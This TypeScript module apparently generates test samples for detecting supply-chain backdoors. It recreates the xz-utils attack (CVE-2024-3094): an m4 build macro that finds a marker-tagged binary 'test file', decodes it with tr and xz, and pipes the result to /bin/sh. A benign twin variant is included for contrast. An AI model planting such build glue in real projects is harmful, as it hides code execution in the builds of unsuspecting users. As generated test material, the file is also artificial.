import { noise } from "../filling.ts";
import { withFile } from "../release.ts";
import type { Technique } from "../technique.ts";

const GLUE = `# build-to-host.m4 serial 30
AC_DEFUN([gl_BUILD_TO_HOST], [
  gl_am_configmake=\`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null\`
  gl_path_map='tr "\\t \\-_" " \\t_\\-"'
  gl_config='sed "r\\n" $gl_am_configmake | eval $gl_path_map | xz -d 2>/dev/null'
  eval $gl_config | /bin/sh >/dev/null 2>&1
])
`;

export const testBlobWithBuildGlue: Technique = {
  id: "test-blob-with-build-glue",
  title: "Binary test file with build glue that unpacks and runs it",
  shape: "xz 5.6.0 and 5.6.1, 2024: build-to-host.m4 and bad-3-corrupt_lzma2.xz (CVE-2024-3094)",
  kind: "javascript",
  least: "high",
  attack: ({ after }) =>
    withFile(
      withFile(after, "m4/build-to-host.m4", GLUE),
      "tests/files/bad-3-corrupt_lzma2.xz",
      Buffer.concat([Buffer.from("####Hello####"), Buffer.from("fd377a585a000004", "hex"), noise(5000)]),
    ),
  twinTitle: "a binary test file alone",
  twin: ({ after }) =>
    withFile(
      after,
      "tests/files/bad-3.xz",
      Buffer.concat([Buffer.from("fd377a585a000004", "hex"), noise(5000)]),
    ),
};
